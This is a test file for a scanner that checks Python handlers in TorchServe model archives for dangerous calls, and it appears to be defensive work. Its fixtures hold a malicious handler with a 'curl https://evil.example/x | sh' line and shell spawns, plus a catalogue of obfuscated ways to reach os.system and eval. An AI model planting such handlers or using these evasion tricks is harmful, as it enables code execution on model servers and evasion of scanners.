"""Python handlers inside TorchServe .mar archives, parsed with ast (never run)."""

from __future__ import annotations

import json

import pytest
from scanhits import EVIL_CALL, evil, hits
from zipgen import Entry, build

MANIFEST = json.dumps({"model": {"modelName": "resnet", "handler": "handler.py", "serializedFile": "model.pt"}}).encode()
BENIGN_HANDLER = b"""import json
import os

import torch
from ts.torch_handler.image_classifier import ImageClassifier


class Handler(ImageClassifier):
    def initialize(self, context):
        model_dir = context.system_properties.get("model_dir")
        with open(os.path.join(model_dir, "index_to_name.json")) as f:
            self.mapping = json.load(f)
        self.model = torch.jit.load(os.path.join(model_dir, "model.pt"))
        os.makedirs(os.environ.get("TS_CACHE", "/tmp/ts"), exist_ok=True)
"""
EVIL_HANDLER = (
    BENIGN_HANDLER
    + b"""
import subprocess as sp
from os import system as run_it


def _setup():
    run_it("curl https://evil.example/x | sh")
    sp.Popen(["sh", "-c", "id"])
    eval(compile("print(1)", "<x>", "exec"))  # \xc3\xa9 a non-ASCII comment before the next call
    sp.Popen(["sh"])
"""
)


def mar(handler: bytes, *extra: Entry) -> bytes:
    return build([Entry("MAR-INF/MANIFEST.json", MANIFEST), Entry("handler.py", handler), *extra]).data


def test_dangerous_calls_in_a_handler_are_critical_once_each(scan_tree):
    scan = scan_tree({"resnet.mar": mar(EVIL_HANDLER)}, select="models")
    assert hits(scan) == [
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b'run_it("')),
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b"sp.Popen")),
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b"eval(")),
        ("MOD015", "resnet.mar", "handler.py", EVIL_HANDLER.index(b"compile(")),
    ]
    assert scan.messages("MOD015")[:2] == [
        "handler code reaches os.system: it starts a process when the model server loads the archive",
        "handler code reaches subprocess.Popen: it starts a process when the model server loads the archive",
    ]


def test_ordinary_handlers_and_python_outside_torchserve_archives_are_quiet(scan_tree):
    """File reads, torch.jit.load and os.makedirs are what handlers do; a zip without the
    TorchServe manifest is not loaded by a model server."""
    plain_zip = build([Entry("tools/setup.py", EVIL_HANDLER)]).data
    scan = scan_tree({"resnet.mar": mar(BENIGN_HANDLER), "tools.zip": plain_zip}, select="models")
    assert (hits(scan), scan.errors) == ([], [])


def test_the_serialized_model_of_the_archive_is_still_scanned(scan_tree):
    scan = scan_tree({"resnet.mar": mar(BENIGN_HANDLER, Entry("model.pt", evil()))}, select="models")
    assert hits(scan) == [("MOD001", "resnet.mar", "model.pt", EVIL_CALL)]


# Each handler reaches a dangerous function by a name built at run time; the finding is at
# the start of the expression that reaches it (`first`), named as it resolves (`name`).
OBFUSCATED = [
    (b'import os\ngetattr(os, "sys" + "tem")("id")\n', b"getattr", "os.system"),
    (b'__import__("o" + "s").system("id")\n', b"__import__", "os.system"),
    (b'import importlib\nimportlib.import_module("sub" + "process").Popen(["id"])\n', b"importlib.import_module(", "subprocess.Popen"),
    (b'globals()["__builtins__"]["ev" "al"]("1")\n', b"globals", "builtins.eval"),
    (b'import os\nvars(os)["pop" + "en"]("id")\n', b"vars", "os.popen"),
    (b'import os\nos.__dict__["system"]("id")\n', b"os.__dict__", "os.system"),
    (b'import sys\nsys.modules["subprocess"].run(["id"])\n', b"sys.modules", "subprocess.run"),
    (b'import os\ngetattr(os, "".join(["s", "y", "s", "t", "e", "m"]))("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, "".join(chr(c) for c in (115, 121, 115, 116, 0x65, 108 + 1)))("id")\n', b"getattr", "os.system"),
    (b'import os\nx = "sys"\ngetattr(os, f"{x}tem")("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, "{}{}".format("sys", "tem"))("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, "%stem" % "sys")("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, "metsys"[::-1])("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())("id")\n', b"getattr", "os.system"),
    (b'import os, base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("id")\n', b"getattr", "os.system"),
    (b'import os, codecs\ngetattr(os, codecs.decode("flfgrz", "rot13"))("id")\n', b"getattr", "os.system"),
    (b'import os\ngetattr(os, bytes.fromhex("73797374656d").decode("utf-8"))("id")\n', b"getattr", "os.system"),
    (b'import os\nname = "sys"\nname += "tem"\nrun = getattr(os, name)\nrun("id")\n', b"getattr", "os.system"),
    (b'import os\nfor n in ["path", "system"]:\n    getattr(os, n)("id")\n', b"getattr", "os.system"),
    (b'from os import *\nsystem("id")\n', b"system(", "os.system"),
    (b'import os\ncmds = ["id"]\nlist(map(os.system, cmds))\n', b"os.system", "os.system"),
    (b'import os\nclass H:\n    def initialize(self, ctx):\n        self.run = getattr(os, "system")\n', b"getattr", "os.system"),
    (b'getattr(__import__("builtins"), "ex" + "ec")("print(1)")\n', b"getattr", "builtins.exec"),
    (b'import os\ngetattr(os, request["cmd"])("id")\n', b"getattr", "getattr(os, <computed name>)"),
    (b"import importlib\nimportlib.import_module(config.name).run()\n", b"importlib.import_module(", "import_module(<computed name>)"),
    (b"globals()[handler_name]()\n", b"globals", "globals()[<computed name>]"),
    (b"import sys\nsys.modules[module].main()\n", b"sys.modules", "sys.modules[<computed name>]"),
]


@pytest.mark.parametrize(("handler", "first", "name"), OBFUSCATED)
def test_dangerous_functions_reached_by_computed_names(scan_tree, handler, first, name):
    scan = scan_tree({"m.mar": mar(handler)}, select="models")
    assert hits(scan) == [("MOD015", "m.mar", "handler.py", handler.index(first))]
    assert scan.messages("MOD015")[0].startswith(f"handler code reaches {name}: it ")


def test_ordinary_dynamic_code_is_quiet(scan_tree):
    """Computed attributes of objects and of modules without dangerous functions, constant
    imports, local functions named like builtins, the constants of subprocess."""
    handler = b"""import importlib
import os
import subprocess
import torch

json = importlib.import_module("json")
dtype = getattr(torch, config["torch_dtype"])
method = getattr(self.model, request.get("method", "forward"))
out = subprocess.PIPE
path = getattr(os.path, "join")("a", "b")


def eval(batch):
    return batch


class Handler:
    def system(self):
        return eval([1])

    def run(self):
        return self.system()
"""
    scan = scan_tree({"m.mar": mar(handler)}, select="models")
    assert (hits(scan), scan.errors) == ([], [])


def test_folding_is_bounded(scan_tree):
    """Strings that would grow past the caps are not built; deep or huge expressions end
    as unknown values (reported when they name a module attribute), never as a hang."""
    handler = (
        b"""import os
x = "a" * 10 ** 9
y = "{:>1000000000}".format("x")
z = "%1000000000s" % "x"
w = "x".replace("", "y" * 100000)
getattr(os, x + y + z + w)("id")
"""
        + b"v = "
        + b" + ".join(b'"a"' for _ in range(400))
        + b"\n"
    )
    scan = scan_tree({"m.mar": mar(handler)}, select="models")
    assert hits(scan) == [("MOD015", "m.mar", "handler.py", handler.index(b"getattr"))]
